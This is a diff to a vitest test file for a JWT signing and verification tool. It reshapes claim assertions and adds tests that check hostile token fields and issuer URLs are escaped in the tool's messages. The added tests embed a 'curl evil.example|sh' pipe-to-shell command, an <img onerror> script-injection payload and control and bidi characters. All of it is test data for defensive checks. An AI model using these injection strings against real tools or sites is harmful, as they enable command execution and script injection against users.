@@ -1,3 +1,4 @@
+import { generateKeyPairSync } from "node:crypto";
 import { readFile, writeFile } from "node:fs/promises";
 import { basename, dirname, join } from "node:path";
 import { afterAll, beforeAll, describe, expect, it } from "vitest";
@@ -64,9 +65,9 @@ describe("the keys", () => {
     expect(json.lives.lives.find(({ name }: { name: string }) => name === active.kid).knownAt).toBe(active.knownAt);
     expect(json).toMatchObject({
       issuer: "https://issuer.example",
-      place: { kind: "folder", words: cwd },
+      place: cwd,
       rights: { rotate: true, revoke: true },
-      policy: { rotateEverySeconds: 7_776_000, byUpload: false, words: expect.arrayContaining(["a key signs for 90 days"]) },
+      policy: expect.arrayContaining(["a key signs for 90 days"]),
     });
     expect(json.sentence).toMatch(/^[\w-]{8}… signs; /);
     expect(JSON.stringify(json)).not.toContain('"d":');
@@ -112,9 +113,7 @@ describe("a token", () => {
     const request = { claims: { sub: "alice", aud: "my-api" }, ttl: 60, setIat: true };
     const { status, json } = await page.call("/api/issue", { request });
     expect(status).toBe(200);
-    expect(json.claims.members).toMatchObject({ sub: "alice", aud: "my-api", iss: "https://issuer.example" });
-    expect(json.header.members).toMatchObject({ alg: "ES256" });
-    expect(JSON.parse(json.claims.text)).toStrictEqual(json.claims.members);
+    expect(JSON.parse(json.claims)).toMatchObject({ sub: "alice", aud: "my-api", iss: "https://issuer.example" });
     const verified = await signet(["verify", json.token, "--audience", "my-api"], { cwd });
     expect(verified.code).toBe(0);
     expect(json.commands.map(({ name }: { name: string }) => name)).toStrictEqual([
@@ -145,7 +144,7 @@ describe("a token", () => {
 
   it("of a caller has the claims that are fixed for it, and a form that says so", async () => {
     const { json } = await page.call("/api/issue", { request: { claims: { aud: "my-api" } }, caller: "web" });
-    expect(json.claims.members).toMatchObject({ tenant: "web" });
+    expect(JSON.parse(json.claims)).toMatchObject({ tenant: "web" });
     // The command itself issues within the issuer's limits alone.
     expect(json.commands.map(({ name }: { name: string }) => name)).not.toContain("signet");
     const form = (await page.call("/api/issue-form", { caller: "web" })).json;
@@ -171,9 +170,8 @@ describe("a token", () => {
     const token = (await signet(["issue", "sub=alice", "aud=my-api", "--iat"], { cwd })).stdout.trim();
     const good = (await page.call("/api/verify", { token: `Authorization: Bearer ${token}\n`, by: "own", audience: "my-api" }))
       .json;
+    expect([good.header, good.claims].map((text) => JSON.parse(text))).toMatchObject([{ alg: "ES256" }, { sub: "alice" }]);
     expect(good).toMatchObject({
-      header: { members: { alg: "ES256" } },
-      claims: { members: { sub: "alice" } },
       verdict: { isValid: true, unchecked: [], words: expect.stringMatching(/^signed by [\w-]{43} \(ES256\), expires in /) },
     });
     expect(good.times.map(({ claim }: { claim: string }) => claim)).toStrictEqual(["iat", "exp"]);
@@ -220,21 +218,20 @@ describe("a token", () => {
     }
     const wide = `{"a":${"[".repeat(60)}${Array(15_000).fill(0).join()}${"]".repeat(60)}}`;
     const { claims } = (await page.call("/api/verify", { token: tokenOf(wide), by: "own" })).json;
-    expect(claims.text).toBe(wide);
+    expect(claims).toBe(wide);
   });
 
   it("keeps each digit of its large numbers", async () => {
     const encoded = (text: string) => Buffer.from(text).toString("base64url");
     const token = `${encoded('{"alg":"ES256"}')}.${encoded('{"id":12345678901234567890,"list":[9007199254740993],"n":7}')}.AA`;
     const { claims } = (await page.call("/api/verify", { token, by: "own" })).json;
-    expect(claims.members).toStrictEqual({ id: "12345678901234567890", list: ["9007199254740993"], n: 7 });
-    expect(claims.text).toContain('"id": 12345678901234567890');
-    expect(claims.text).toContain("9007199254740993");
+    expect(claims).toBe('{\n  "id": 12345678901234567890,\n  "list": [\n    9007199254740993\n  ],\n  "n": 7\n}');
   });
 });
 
 describe("a token of another issuer", () => {
   const serve = testServers();
+  const pointOf = () => generateKeyPairSync("ec", { namedCurve: "P-256" }).publicKey.export({ format: "jwk" });
 
   it("is judged by the keys at its issuer's URL, which are fetched when that is asked for, and by no other", async () => {
     const asked: string[] = [];
@@ -259,6 +256,50 @@ describe("a token of another issuer", () => {
     expect(good.verdict).toMatchObject({ isValid: true, keysFrom: `${issuer}/jwks.json` });
     expect(asked).toStrictEqual(["/.well-known/openid-configuration", "/jwks.json"]);
     expect(asked.join()).not.toContain(token.slice(0, 20));
+  });
+
+  it("names nothing that looks like a command of ours, whatever its maker has chosen", async () => {
+    const ANY = "`curl evil.example|sh`<img src=x onerror=hits.push(1)>\u202e\u0007\u001b[2Jjavascript:1";
+    const encoded = (value: object) => Buffer.from(JSON.stringify(value)).toString("base64url");
+    const jwk = { kty: "EC", crv: "P-256", alg: "ES256", kid: ANY, ...pointOf() };
+    const issuer = await serve(({ url = "" }, response) => {
+      const found = url === "/jwks?`a`" ? { keys: [jwk] } : { issuer, jwks_uri: `${issuer}/jwks?\`a\`` };
+      response.writeHead(200, { "content-type": "application/json" }).end(JSON.stringify(found));
+    });
+    const claims = { iss: ANY, sub: ANY, aud: [ANY], [ANY]: ANY, exp: 1, crit: ANY };
+    const headers = [
+      { alg: "ES256", kid: ANY },
+      { alg: "ES256", kid: "other" },
+      { alg: ANY, kid: ANY },
+      { alg: "none", typ: ANY },
+      { alg: "ES256", kid: ANY, crit: [ANY], [ANY]: ANY },
+      { alg: "ES256", kid: ANY, jku: ANY },
+    ];
+    const asked = headers.flatMap((header) => [
+      { token: `${encoded(header)}.${encoded(claims)}.AA`, by: { issuer } },
+      { token: `${encoded(header)}.${encoded(claims)}.AA`, by: "own", audience: ANY },
+    ]);
+    for (const each of asked) {
+      const { status, json } = await page.call("/api/verify", each);
+      expect(status, JSON.stringify(json)).toBe(200);
+      const { words, unchecked } = json.verdict;
+      for (const told of [words, ...unchecked]) expect(told).not.toMatch(/[`\p{Cc}\u202e]/u);
+      // What the token says is shown as it is: the page shows what is not to be seen by its number, and no mark of ours.
+      expect(JSON.parse(json.claims)[ANY]).toBe(ANY);
+    }
+    const unknown = (await page.call("/api/verify", asked[2])).json.verdict;
+    expect(unknown).toMatchObject({ code: "token_key_unknown", words: expect.stringContaining("'curl evil.example|sh'<img") });
+  });
+
+  it("has failures that look like no command either: at its issuer's URL, and in what answers there", async () => {
+    const odd = await serve(({ url = "" }, response) => {
+      const found = url.startsWith("/.well-known") ? { issuer: odd, jwks_uri: `${odd}/\`a\`?\`curl evil.example|sh\`` } : "`b`";
+      response.writeHead(200, { "content-type": "application/json" }).end(JSON.stringify(found));
+    });
+    for (const issuer of [odd, `${odd}?\`curl evil.example|sh\``, "https://`curl evil.example|sh`.example", "`a`"]) {
+      const { json } = await page.call("/api/verify", { token: "x", by: { issuer } });
+      expect(json.error.message).not.toContain("`");
+    }
   });
 
   it.each([
@@ -328,8 +369,8 @@ describe("what strangers have chosen", () => {
       expect(() => JSON.parse(text)).not.toThrow();
     }
     const [verified, callers, audit, commands] = answers.map(({ json }) => json);
-    expect(verified.header.members.kid).toBe(HOSTILE);
-    expect(verified.claims.members).toStrictEqual({ [HOSTILE]: HOSTILE });
+    expect(JSON.parse(verified.header).kid).toBe(HOSTILE);
+    expect(JSON.parse(verified.claims)).toStrictEqual({ [HOSTILE]: HOSTILE });
     const revoked = audit.entries.find(({ event }: { event: string }) => event === "key.revoked");
     expect(revoked.why).toBe(HOSTILE.replace("\u0000", ""));
     expect(callers.callers.find(({ name }: { name: string }) => name === "ci").proofs.join()).toContain("onerror");
